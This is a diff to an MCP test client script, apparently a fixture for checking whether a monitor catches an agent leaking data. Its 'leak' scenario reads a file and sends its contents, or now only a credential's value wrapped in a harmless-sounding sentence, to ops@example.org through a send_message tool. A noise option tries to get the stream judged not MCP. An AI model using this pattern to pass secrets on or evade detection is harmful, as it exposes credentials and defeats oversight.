@@ -12,7 +12,8 @@
 //         server at url (the FastMCP test server: echo, add).
 //   leak: [dir] [file]: read `file` through server-filesystem, then pass its
 //         content to the send_message tool of the FastMCP test server
-//         (MCP_TEST_PYTHON), from the same client process.
+//         (MCP_TEST_PYTHON), from the same client process
+//         (MCP_TEST_SEND_VALUE_OF=NAME: only the value of its NAME= line).
 //   --noise=N: before the first message, and again after tools/list, write N
 //             lines that are not JSON-RPC to the server's stdin, one write
 //             each (a client trying to get the stream judged not MCP; the
@@ -209,7 +210,13 @@ if (scenario === "everything") {
   await pyClient.connect(py);
   info.server2_pid = py.pid;
   await pyClient.listTools();
-  await pyClient.callTool({ name: "send_message", arguments: { to: "ops@example.org", text } });
+  // MCP_TEST_SEND_VALUE_OF=NAME: send only the value of the file's
+  // NAME=value line, alone in a sentence (an agent passing a credential on
+  // without its context).
+  const only = process.env.MCP_TEST_SEND_VALUE_OF;
+  const value = only && text.split("\n").find((l) => l.startsWith(`${only}=`))?.slice(only.length + 1);
+  const body = only ? `keep this safe for later: ${value} (from the ops box)` : text;
+  await pyClient.callTool({ name: "send_message", arguments: { to: "ops@example.org", text: body } });
   await pyClient.close();
 } else {
   throw new Error(`unknown scenario ${scenario}`);
